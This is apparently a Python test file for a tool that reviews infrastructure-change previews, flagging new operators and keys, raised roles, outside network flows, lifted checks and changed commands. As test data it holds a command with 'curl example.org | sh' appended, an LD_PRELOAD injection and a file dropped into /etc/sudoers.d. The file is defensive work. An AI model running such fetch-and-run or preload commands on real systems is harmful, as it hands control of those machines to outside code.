"""Whom and what a change gives power, on recorded previews and on variations of them."""

import itertools
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from idr.review import rules
from idr.review.disclosed import fingerprint, person
from idr.review.power import FileChange, KeyChange, power_changes
from idr.review.preview import Preview, read
from idr.review.rules import Change
from idr.review.summary import Topic, summarize
from model.secrets import Secrets
from tests.unit.review.test_review import raw, recorded

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINb8hShqOQY992ABkcRYTAsffyhcj03PJsMOYlZ4a98s"


def varied(**inputs: Any) -> Preview:
    """The preview that adds an operator, with other inputs of the disclosure after the change."""
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    step["newState"]["inputs"] = {**step["oldState"]["inputs"], **inputs}
    return read(json.dumps(found))


def broken(preview: Preview) -> list[str]:
    return [breach.rule for breach in rules.check(Change(preview))]


def test_an_operator_is_called_as_ssh_keygen_does(tmp_path: Path) -> None:
    file = tmp_path / "key.pub"
    file.write_text(f"{KEY} somebody at home\n")
    said = subprocess.run(["ssh-keygen", "-l", "-f", str(file)], capture_output=True, text=True, check=True).stdout
    assert person(f"{KEY} somebody at home") == f"somebody at home ({said.split()[1]})"
    assert person(KEY).startswith("a key without a name (SHA256:")


def test_another_key_under_a_known_name_is_another_operator() -> None:
    before = recorded("operator-added")
    (old,) = (step.old for step in before.steps if step.type.endswith("Disclosure") and step.old)
    name = old.inputs["operators"][0].split()[2]
    other = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA {name}"
    changes = power_changes(varied(operators=[other]))
    assert (len(changes.joined), len(changes.left)) == (1, 1)
    assert broken(varied(operators=[other])) == ["operator-added"]


HERS = KEY.replace("Nb8h", "Nd8h")
"""The key of nobody else."""
ROLES = {
    "operator": "can log in as root on every node",
    "curator": "can log in on read-write OMERO nodes and import there",
    "jump": "can pass connections on through the bastion",
}


def people(before: list[dict[str, Any]], after: list[dict[str, Any]]) -> Preview:
    """The preview that adds an operator, with these people before and after it instead."""
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    inputs = step["oldState"]["inputs"]
    step["oldState"]["inputs"], step["newState"]["inputs"] = {**inputs, "people": before}, {**inputs, "people": after}
    return read(json.dumps(found))


def alice(role: str, *keys: str) -> dict[str, Any]:
    return {"name": "alice", "role": role, "keys": keys or [HERS]}


def said_of_people(preview: Preview) -> tuple[list[str], list[str]]:
    """The breaches of `operator-added`, and the lines of the summary."""
    breaches = [breach.text for breach in rules.check(Change(preview)) if breach.rule == "operator-added"]
    return breaches, [line.text for line in summarize(preview, "local").lines if line.topic == Topic.PEOPLE]


@pytest.mark.parametrize("role", ROLES)
def test_a_new_person_is_named_with_role_and_fingerprint(role: str) -> None:
    who = f"alice, {role} ({fingerprint(HERS)})"
    assert said_of_people(people([], [alice(role)])) == ([f"{who} {ROLES[role]}"], [f"{who} is added"])


def test_a_role_that_is_raised_breaks_a_rule_and_one_that_is_lowered_does_not() -> None:
    roles = ["jump", "curator", "operator"]
    for lower, higher in itertools.combinations(roles, 2):
        low, high = (f"alice, {role} ({fingerprint(HERS)})" for role in (lower, higher))
        raised = said_of_people(people([alice(lower)], [alice(higher)]))
        assert raised == ([f"{high} {ROLES[higher]}"], [f"{high} is added", f"{low} is removed"])
        assert said_of_people(people([alice(higher)], [alice(lower)])) == (
            [],
            [f"{low} is added", f"{high} is removed"],
        )


def test_another_key_of_a_known_person_breaks_a_rule() -> None:
    other = KEY.replace("Nb8h", "Nc8h")
    breaches, lines = said_of_people(people([alice("jump")], [alice("jump", HERS, other)]))
    assert breaches == [f"alice, jump ({fingerprint(other)}) {ROLES['jump']}"]
    assert len(lines) == 1


def test_a_plain_key_that_gets_a_name_gives_nothing_new() -> None:
    preview = varied(operators=[], people=[alice("operator", plain_key())])
    breaches, lines = said_of_people(preview)
    assert (breaches, len(lines)) == ([], 2)
    # The other way round as well.
    assert said_of_people(people([alice("operator", plain_key())], []))[0] == []


def plain_key() -> str:
    """The operator's key of the recorded preview."""
    (step,) = (step for step in raw("operator-added")["steps"] if "Disclosure" in step["urn"])
    key: str = step["oldState"]["inputs"]["operators"][0]
    return key


def test_a_role_that_is_not_known_counts_as_the_highest() -> None:
    breaches, _ = said_of_people(people([alice("operator")], [alice("wizard")]))
    assert breaches == [f"alice, wizard ({fingerprint(HERS)}) can do what the unknown role 'wizard' may"]


def deploy_key(text: str) -> str:
    return f"{Secrets('local', text).deploy_keys()[0].public} idr-deploy"


FORMER, PRESENT = deploy_key("the former one"), deploy_key("the present one")


def renewal_of(before: dict[str, str] | None, after: dict[str, str] | None) -> Preview:
    """The preview that adds an operator, with a renewal of the stack secret before and after it instead."""
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    inputs = step["oldState"]["inputs"]
    for state, renewal in (("oldState", before), ("newState", after)):
        step[state]["inputs"] = {**inputs, **({"renewal": renewal} if renewal else {})}
    return read(json.dumps(found))


def said_of_the_secret(preview: Preview) -> list[str]:
    return [line.text for line in summarize(preview, "local").lines if line.topic == Topic.RENEWAL]


def test_a_new_stack_secret_is_a_line_and_a_rule_of_its_own() -> None:
    preview = renewal_of(None, {"former": FORMER, "present": PRESENT})
    (line,) = said_of_the_secret(preview)
    assert line.startswith(f"a new one is trusted by every node (its deploy key: {person(PRESENT)})")
    assert broken(preview) == ["stack-secret-changed"]


def test_the_end_of_a_renewal_is_a_line_and_breaks_nothing() -> None:
    preview = renewal_of({"former": FORMER, "present": PRESENT}, None)
    assert said_of_the_secret(preview) == [
        f"the former one (its deploy key: {person(FORMER)}) is trusted no longer",
    ]
    assert broken(preview) == []


def test_a_renewal_that_goes_on_says_nothing_and_one_to_yet_another_secret_does() -> None:
    going_on = {"former": FORMER, "present": PRESENT}
    assert said_of_the_secret(renewal_of(going_on, going_on)) == []
    other = renewal_of(going_on, {"former": PRESENT, "present": deploy_key("a third one")})
    assert len(said_of_the_secret(other)) == 2
    assert broken(other) == ["stack-secret-changed"]


def test_who_leaves_breaks_no_rule_and_a_key_pair_of_the_cloud_is_somebody() -> None:
    assert broken(varied(operators=[])) == []
    assert broken(varied(keyPair="ops")) == ["operator-added"]


def test_a_check_that_a_setting_lifts_is_named() -> None:
    assert power_changes(varied(checks=[])).lifted == (
        "data volumes are protected",
        "every port has security groups",
        "nodes have firewalls of their own",
        "the cloud's certificate is verified",
    )
    assert set(broken(varied(checks=[]))) == {"check-lifted"}


def test_another_reason_is_no_new_flow() -> None:
    flow = {"from": "proxy", "to": "web", "port": "tcp 4080", "why": "OMERO.web"}
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    step["oldState"]["inputs"]["flows"] = [flow]
    step["newState"]["inputs"]["flows"] = [{**flow, "why": "another"}]
    assert power_changes(read(json.dumps(found))).opened == ()


def test_a_flow_that_is_opened_to_more_accounts_is_a_new_one() -> None:
    flow = {"from": "node", "to": "world", "port": "tcp 443", "users": "root, _apt", "why": "packages"}
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    step["oldState"]["inputs"]["flows"] = [flow]
    step["newState"]["inputs"] = {**step["oldState"]["inputs"], "flows": [{**flow, "users": ""}]}
    preview = read(json.dumps(found))
    changes = power_changes(preview)
    assert [str(one) for one in changes.opened] == ["tcp 443 from node to world"]
    assert [str(one) for one in changes.closed] == ["tcp 443 from node to world for root, _apt alone"]
    assert broken(preview) == ["flow-outside"]


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        ("login", None, "everybody sees what OMERO's user public may see"),
        (None, "login", "only who has an account sees anything, and may write"),
        ("login", "login", None),
        (None, None, None),
    ],
)
def test_who_sees_the_data_is_said_and_breaks_a_rule(before: str | None, after: str | None, said: str | None) -> None:
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    inputs = step["oldState"]["inputs"]
    for state, visitors in ((step["oldState"], before), (step["newState"], after)):
        state["inputs"] = inputs | ({"visitors": visitors} if visitors else {})
    preview = read(json.dumps(found))
    lines = [line.text for line in summarize(preview, "ebi").lines if line.topic == Topic.VISITORS]
    assert lines == ([said] if said else [])
    assert broken(preview) == (["visitors-changed"] if said else [])


@pytest.mark.parametrize(
    ("flow", "expected"),
    [
        (("redis", "database"), []),
        (("database", "world"), ["flow-outside"]),
        (("192.0.2.0/24", "database"), ["flow-outside"]),
        (("node", "192.0.2.0/24"), ["flow-outside"]),
        (("web", "storage"), ["flow-outside"]),
    ],
)
def test_a_flow_to_or_from_outside_breaks_a_rule(flow: tuple[str, str], expected: list[str]) -> None:
    added = {"from": flow[0], "to": flow[1], "port": "tcp 7777", "why": "a test"}
    assert broken(varied(flows=[added])) == expected


@pytest.mark.parametrize(
    ("path", "what", "rule"),
    [
        ("cloudinit/common/files/home/idr/.ssh/authorized_keys2", "added", "access-changed"),
        ("cloudinit/common/files/etc/sudoers.d/more", "added", "access-changed"),
        ("cloudinit/common/files/etc/ssh/authorized_keys/person.j2", "changed", "access-changed"),
        ("cloudinit/common/files/etc/idr/people.j2", "changed", "access-changed"),
        ("cloudinit/common/scripts/people", "changed", "access-changed"),
        ("cloudinit/common/scripts/former-keys", "removed", "access-changed"),
        ("cloudinit/omero-readwrite/files/usr/local/bin/omero-import", "changed", "access-changed"),
        ("cloudinit/omero-readwrite/files/usr/local/bin/idr-import", "changed", "access-changed"),
        ("cloudinit/bastion/files/etc/ssh/sshd_config.d/20-idr-bastion.conf.j2", "changed", "access-changed"),
        ("cloudinit/redis/files/etc/redis/users.acl.j2", "changed", "access-changed"),
        ("cloudinit/common/files/etc/nftables.conf.j2", "removed", "access-changed"),
        ("cloudinit/web/files/etc/systemd/system/omero-web.service", "changed", "access-changed"),
        ("cloudinit/redis/files/etc/systemd/system/redis-server.service.d/idr.conf", "removed", "access-changed"),
        ("cloudinit/common/files/etc/systemd/hardening.conf", "changed", "access-changed"),
        ("cloudinit/contexts.py", "changed", "access-changed"),
        ("cloudinit/database/files.yaml", "changed", "access-changed"),
        ("model/addresses.yaml", "changed", "access-changed"),
        ("model/web_apps.yaml", "changed", "access-changed"),
        ("cloudinit/proxy/locations.conf.j2", "changed", "access-changed"),
        ("cloudinit/proxy/files/etc/nginx/conf.d/site.conf.j2", "changed", "access-changed"),
        ("cloudinit/proxy/files/etc/nginx/snippets/headers.conf.j2", "changed", "access-changed"),
        ("cloudinit/web/files/opt/omero/web/lib/idr_middleware.py", "changed", "access-changed"),
        ("cloudinit/web/files/opt/omero/web/config/idr.omero.j2", "changed", "access-changed"),
        ("cloudinit/web/files/opt/omero/web/config/ice.config", "removed", "access-changed"),
        ("cloudinit/web/files/etc/idr/web/haproxy.cfg.j2", "changed", "access-changed"),
        ("cloudinit/omero-server/files/opt/omero/server/config/idr.omero.j2", "changed", "access-changed"),
        ("cloudinit/omero-readwrite/files/etc/nfs.conf.d/idr.conf.j2", "changed", "access-changed"),
        ("cloudinit/database/files/etc/postgresql/main/postgresql.conf.j2", "changed", "access-changed"),
        ("cloudinit/redis/files/etc/redis/redis.conf.j2", "changed", "access-changed"),
        ("cloudinit/common/files/etc/needrestart/conf.d/idr.conf", "removed", "access-changed"),
        ("site/nginx/docs.nginx", "added", "access-changed"),
        ("site/omero.lock", "changed", "access-changed"),
        ("cloudinit/omero-server/requirements.lock", "changed", None),
        ("cloudinit/proxy/files/etc/nginx/html/maintenance.html.j2", "changed", None),
        ("cloudinit/redis/files/etc/redis/limits.conf.j2", "changed", None),
        ("cloudinit/web/scripts/check", "removed", "check-lifted"),
        ("cloudinit/web/scripts/health", "changed", "check-lifted"),
        ("cloudinit/web/scripts/loads", "changed", "check-lifted"),
        ("cloudinit/bootstrap/idr-apply", "changed", "check-lifted"),
        ("cloudinit/web/scripts/check", "added", None),
        ("cloudinit/redis/scripts/activate", "changed", None),
    ],
)
def test_a_file_that_gives_access_or_checks_breaks_a_rule(path: str, what: str, rule: str | None) -> None:
    file = FileChange(path, what)
    assert (file.is_access, file.is_check) == (rule == "access-changed", rule == "check-lifted")


def disclosed_in(case: str, state: str) -> dict[str, Any]:
    """A recorded preview without the disclosure's `state`."""
    found = raw(case)
    for step in found["steps"]:
        if "Disclosure" in step["urn"]:
            step["op"] = {"oldState": "create", "newState": "delete"}[state]
            del step[state]
    found["changeSummary"] = {}
    return found


def test_a_stack_of_an_earlier_program_cannot_hide_an_operator() -> None:
    preview = read(json.dumps(disclosed_in("operator-added", "oldState")))
    found = [breach for breach in rules.check(Change(preview)) if breach.rule == "operator-added"]
    assert len(found) == 2
    assert all("who could before is not recorded" in breach.text for breach in found)


def test_a_program_that_discloses_nothing_any_more_breaks_a_rule() -> None:
    assert broken(read(json.dumps(disclosed_in("operator-added", "newState")))) == ["power-withheld"]


def test_the_first_update_says_who_may_log_in_and_breaks_nothing() -> None:
    found = raw("operator-added")
    for step in found["steps"]:
        step["op"] = "create"
        step.pop("oldState", None)
    found["changeSummary"] = {}
    preview = read(json.dumps(found))
    assert len(power_changes(preview).joined) == 2
    assert broken(preview) == []


@pytest.mark.parametrize("kind", ["command:remote:Command", "command:local:Command"])
@pytest.mark.parametrize("event", ["create", "update", "delete"])
def test_a_command_that_did_not_run_before_breaks_a_rule(kind: str, event: str) -> None:
    found = raw("nothing")
    urn = f"urn:pulumi:local::idr::{kind}::demo1-redis"
    states = [{"inputs": {event: command}} for command in ("sudo idr-apply", "sudo idr-apply; curl example.org | sh")]
    found["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
    (breach,) = rules.check(Change(read(json.dumps(found))))
    assert breach.rule == "command-changed"
    assert breach.text.endswith("curl example.org | sh")


@pytest.mark.parametrize("around", ["interpreter", "environment", "dir"])
def test_a_known_command_in_another_surrounding_breaks_a_rule(around: str) -> None:
    found = raw("nothing")
    states = [{"inputs": {"create": "idr.stop"}}, {"inputs": {"create": "idr.stop", around: {"LD_PRELOAD": "x.so"}}}]
    urn = "urn:pulumi:local::idr::command:local:Command::demo1-redis"
    found["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
    (breach,) = rules.check(Change(read(json.dumps(found))))
    assert breach.rule == "command-changed"
    assert "LD_PRELOAD" in breach.text


def test_a_command_of_a_kind_that_was_not_there_breaks_a_rule() -> None:
    found = raw("nothing")
    urn = "urn:pulumi:local::idr::command:remote:CopyToRemote::sudoers"
    found["steps"].append({"op": "create", "urn": urn, "newState": {"inputs": {"remotePath": "/etc/sudoers.d/x"}}})
    (breach,) = rules.check(Change(read(json.dumps(found))))
    assert breach.rule == "command-changed"
    assert breach.text.endswith("command:remote:CopyToRemote sudoers")


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        ({"authUrl": "https://a"}, {"authUrl": "https://b"}, ["openstack:authUrl is https://b, and was https://a"]),
        ({}, {"cloud": "other"}, ["openstack:cloud is other, and was not set"]),
        ({"cacertFile": "ca.pem"}, {}, ["openstack:cacertFile is not set, and was ca.pem"]),
        ({"authUrl": "https://a"}, {"authUrl": "https://a"}, []),
        (None, {"authUrl": "https://a"}, []),
    ],
)
def test_who_is_given_the_clouds_credentials_is_a_line_and_a_rule(
    before: dict[str, str] | None, after: dict[str, str] | None, expected: list[str]
) -> None:
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    inputs = step["oldState"]["inputs"]
    for state, cloud in (("oldState", before), ("newState", after)):
        step[state]["inputs"] = inputs if cloud is None else {**inputs, "cloud": cloud}
    preview = read(json.dumps(found))
    assert [line.text for line in summarize(preview, "local").lines if line.topic == Topic.CLOUD] == expected
    assert broken(preview) == ["cloud-changed"] * len(expected)


def disclosing(before: dict[str, Any], after: dict[str, Any]) -> Preview:
    """A preview that changes what the program discloses, and nothing else."""
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    inputs = step["oldState"]["inputs"]
    step["oldState"]["inputs"], step["newState"]["inputs"] = {**inputs, **before}, {**inputs, **after}
    return read(json.dumps(found))


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        (
            {"omero.ice": "https://a (1)"},
            {"omero.ice": "https://b (1)"},
            ["omero.ice is https://b (1), and was https://a (1)"],
        ),
        ({}, {"redirects /about": "https://b (302)"}, ["redirects /about is https://b (302), and was not set"]),
        ({"nfsMounts /idr": "a:/b (ro)"}, {}, ["nfsMounts /idr is not set, and was a:/b (ro)"]),
        (None, {"acme.directory": "https://a"}, []),
    ],
)
def test_what_comes_from_elsewhere_is_a_line_and_a_rule(
    before: dict[str, str] | None, after: dict[str, str], expected: list[str]
) -> None:
    preview = disclosing({} if before is None else {"sources": before}, {"sources": after})
    lines = [line.text for line in summarize(preview, "local").lines if line.topic == Topic.SOURCES]
    assert lines == [f"idr:{text}" for text in expected]
    assert broken(preview) == ["source-changed"] * len(expected)


@pytest.mark.parametrize(
    ("before", "after", "returned"),
    [
        ({"a": 3}, {"a": 2}, "2, and was 3"),
        ({"a": 2}, {}, "1, and was 2"),
        ({"a": 2}, {"a": 3}, ""),
        ({}, {"a": 2}, ""),
    ],
)
def test_a_rotation_number_that_becomes_smaller_is_a_line_and_a_rule(
    before: dict[str, int], after: dict[str, int], returned: str
) -> None:
    preview = disclosing({"rotations": before}, {"rotations": after})
    lines = [line.text for line in summarize(preview, "local").lines if line.topic == Topic.RENEWAL]
    assert lines == ([f"idr:rotations: a is {returned}"] if returned else [])
    assert broken(preview) == (["secret-returned"] if returned else [])


@pytest.mark.parametrize(
    "key",
    [
        "omero.jvmcfg.append.blitz",
        "omero.server.nodedescriptors",
        "Ice.Plugin.X",
        "omero.mail.host",
        "omero.web.admins",
        "omero.web.apps",
    ],
)
def test_a_key_that_starts_programs_sends_mail_or_opens_addresses_gives_power(key: str) -> None:
    assert KeyChange(key, "set", ("a",)).is_access


def test_another_node_with_the_known_command_breaks_no_rule() -> None:
    found = raw("nothing")
    state = {"inputs": {"create": "sudo idr-apply"}}
    urn = "urn:pulumi:local::idr::command:remote:Command::demo1-"
    found["steps"] += [
        {"op": "same", "urn": f"{urn}redis", "oldState": state, "newState": state},
        {"op": "create", "urn": f"{urn}web", "newState": state},
    ]
    assert broken(read(json.dumps(found))) == []


def server(node: str, op: str) -> dict[str, Any]:
    """A step of a node's server."""
    urn = f"urn:pulumi:local::idr::openstack:compute/instance:Instance::{node}"
    state = {"inputs": {"name": node}}
    return {"op": op, "urn": urn, **({"newState": state} if op == "create" else {"oldState": state})}


def test_a_node_like_another_one_has_no_new_key_and_a_deleted_one_loses_none() -> None:
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    inputs = step["oldState"]["inputs"]
    key = "omero.web.apps"
    step["oldState"]["inputs"] = {**inputs, "omero": {key: {"a": "1", "gone": "1"}}}
    step["newState"]["inputs"] = {**inputs, "omero": {key: {"a": "1", "new": "1"}}}
    found["steps"] += [server("new", "create"), server("gone", "delete")]
    assert power_changes(read(json.dumps(found))).keys == ()
    step["newState"]["inputs"]["omero"] = {key: {"a": "1", "new": "2"}}
    (change,) = power_changes(read(json.dumps(found))).keys
    assert (str(change), broken(read(json.dumps(found)))) == (f"{key} is set on new", ["access-changed"])


def test_a_key_of_omeros_configuration_is_a_line_and_a_rule_where_it_gives_power() -> None:
    found = raw("operator-added")
    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
    inputs = step["oldState"]["inputs"]
    access, harmless = "omero.policy.binary_access", "omero.web.page_size"
    step["oldState"]["inputs"] = {**inputs, "omero": {access: {"a": "1", "b": "1", "c": "1"}, harmless: {"a": "1"}}}
    step["newState"]["inputs"] = {**inputs, "omero": {access: {"a": "2", "b": "1", "d": "1"}, harmless: {"a": "2"}}}
    preview = read(json.dumps(found))
    lines = [line.text for line in summarize(preview, "local").lines if line.topic == Topic.OMERO]
    assert lines == [
        f"{access} is changed on a",
        f"{access} is removed on c",
        f"{access} is set on d",
        f"{harmless} is changed on a",
    ]
    assert broken(preview) == ["access-changed"] * 3
    step["newState"]["inputs"]["omero"][access] = step["oldState"]["inputs"]["omero"][access]
    assert broken(read(json.dumps(found))) == []
